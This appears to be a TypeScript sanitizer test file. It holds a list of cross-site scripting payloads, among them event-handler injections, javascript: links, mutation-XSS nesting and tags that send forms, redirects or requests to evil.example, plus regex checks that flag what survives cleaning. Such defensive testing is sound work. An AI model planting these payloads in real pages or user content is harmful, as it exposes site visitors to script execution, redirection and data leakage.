/** Ways in which a text may try to run code, to ask another site for something, or to leave the page. */
export const ATTACKS = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  '<iframe src="https://evil.example/"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](vbscript:msgbox)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '<form action="https://evil.example/"><input name=p><button>x</button></form>',
  '<div style="background:url(https://evil.example/x)" onclick="alert(1)">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
  '<video src="https://evil.example/x.mp4" autoplay></video><audio src="https://evil.example/x.mp3"></audio>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<details open ontoggle=alert(1)><summary>x</summary>y</details>',
  '<p id="location" name="cookie" class="evil">x</p>',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](./a.svg "y\\" onload=\\"alert(1)")',
  ':planned[<img src=x onerror=alert(1)>]',
  ':planned[x]{onclick="alert(1)" style="color:red"}',
  '| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |',
  '[^a]\n\n[^a]: <script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<!--><script>alert(1)</script>-->',
  '<x onfocus=alert(1) autofocus tabindex=1>x</x>',
  '<ul><li><a href="//evil.example/\\" rel="opener" target="_blank" ping="https://evil.example/">x</a></li></ul>',
];

const DANGEROUS_TAGS = /<(script|style|iframe|object|embed|form|input|button|svg|math|link|meta|base|video|audio|template|noscript|x)\b/i;

/** Real tags with their attributes, quoted values removed so that text inside them is not taken for an attribute. */
function tags(html: string): string[] {
  return [...html.matchAll(/<[a-z][^"'>]*(?:"[^"]*"[^"'>]*|'[^']*'[^"'>]*)*>/gi)].map(([tag]) => tag.replace(/"[^"]*"|'[^']*'/g, '""'));
}

/** What of an attack is left in HTML that ought to be clean: one line each. */
export function attacksLeft(html: string): string[] {
  const found = [
    html.match(DANGEROUS_TAGS)?.[0],
    ...tags(html).map((tag) => /\s(on\w+|style|srcset|ping|target|name|formaction)\s*=/i.exec(tag)?.[0]),
    html.match(/(href|src)="[^"]*(javascript|vbscript|data):/i)?.[0],
    html.match(/\ssrc="(https?:)?\/\//i)?.[0],
    html.match(/\sid="(location|cookie)"/)?.[0],
  ];
  return found.filter((one) => one !== undefined);
}
